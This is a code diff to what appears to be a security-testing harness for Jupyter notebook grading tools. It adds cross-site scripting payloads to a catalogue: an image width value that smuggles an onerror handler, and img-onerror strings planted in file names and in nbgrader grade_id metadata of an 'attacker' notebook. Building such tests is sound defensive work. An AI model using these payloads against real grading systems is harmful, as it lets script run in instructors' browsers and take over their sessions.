@@ -85,6 +85,9 @@ OUTPUT_CODE = {
     "out-svg": lambda b: "display(SVG({!r}))".format(SVG_DOC.format(
         a=js("out-svg-onload"), b=js("out-svg-script"), c=js("out-svg-foreign"), beacon=b)),
     "out-markdown": lambda b: f"display(Markdown({_img('out-markdown')!r}))",
+    # IPython puts width into the output's metadata; nbconvert writes it unquoted into <img>.
+    "out-image-size": lambda b: "display(Image(data=b'not a png', format='png', width={!r}))"
+                                .format(f"1 onerror={js('out-image-size')}"),
     "out-javascript": lambda b: f"display(Javascript({js('out-javascript')!r}))",
     "out-widget": lambda b: ("display({'application/vnd.jupyter.widget-view+json': "
                              "{'model_id': 'x', 'version_major': 2, 'version_minor': 0}, "
@@ -93,7 +96,7 @@ OUTPUT_CODE = {
     "out-error": lambda b: f"raise ValueError({_img('out-error')!r})",
 }
 LIVE_OUTPUT = {"out-html": BOTH, "out-html-script": BOTH, "out-html-svg": BOTH,
-               "out-svg": frozenset(), "out-markdown": BOTH,
+               "out-svg": frozenset(), "out-markdown": BOTH, "out-image-size": BOTH,
                "out-javascript": frozenset({FORMGRADER}), "out-widget": frozenset(),
                "out-stream": frozenset(), "out-error": frozenset()}
 
@@ -101,6 +104,8 @@ LIVE_OUTPUT = {"out-html": BOTH, "out-html-script": BOTH, "out-html-svg": BOTH,
 ATTACHMENT_SVG = ('<svg xmlns="http://www.w3.org/2000/svg" width="5" height="5" onload="{a}">'
                   "<script>{b}</script></svg>")
 FILE_NAME = f'<img src=x onerror="{js("file-name")}">'
+UNREADABLE_NAME = f'<img src=x onerror="{js("unreadable-name")}">'
+GRADE_ID = f'<img src=x onerror="{js("grade-id")}">'
 
 
 def catalogue() -> list[Payload]:
@@ -108,11 +113,13 @@ def catalogue() -> list[Payload]:
            for pid in MARKDOWN]
     out += [Payload(pid, "output", LIVE_OUTPUT[pid]) for pid in OUTPUT_CODE]
     out += [Payload("attachment", "cell attachment", frozenset()),
-            Payload("file-name", "file name", frozenset())]
+            Payload("file-name", "file name", frozenset()),
+            Payload("unreadable-name", "file name of an unreadable file", frozenset()),
+            Payload("grade-id", "grade id (cell metadata)", frozenset())]
     return out
 
 
-IMPORTS = "from IPython.display import HTML, SVG, Markdown, Javascript, display\n"
+IMPORTS = "from IPython.display import HTML, SVG, Image, Javascript, Markdown, display\n"
 
 
 def _grade_id(cell) -> str | None:
@@ -134,6 +141,7 @@ def attacker_notebook(release, answers: dict[str, str], beacon: str):
              for pid, make in MARKDOWN.items()]
     added.append(new_code_cell(IMPORTS + "\n".join(
         make(beacon) for pid, make in OUTPUT_CODE.items() if pid != "out-error")))
+    added.append(new_code_cell("named = 1", metadata={"nbgrader": {"grade_id": GRADE_ID}}))
     added.append(new_code_cell(OUTPUT_CODE["out-error"](beacon)))
     nb.cells[at:at] = added
     nbformat.validate(nb)
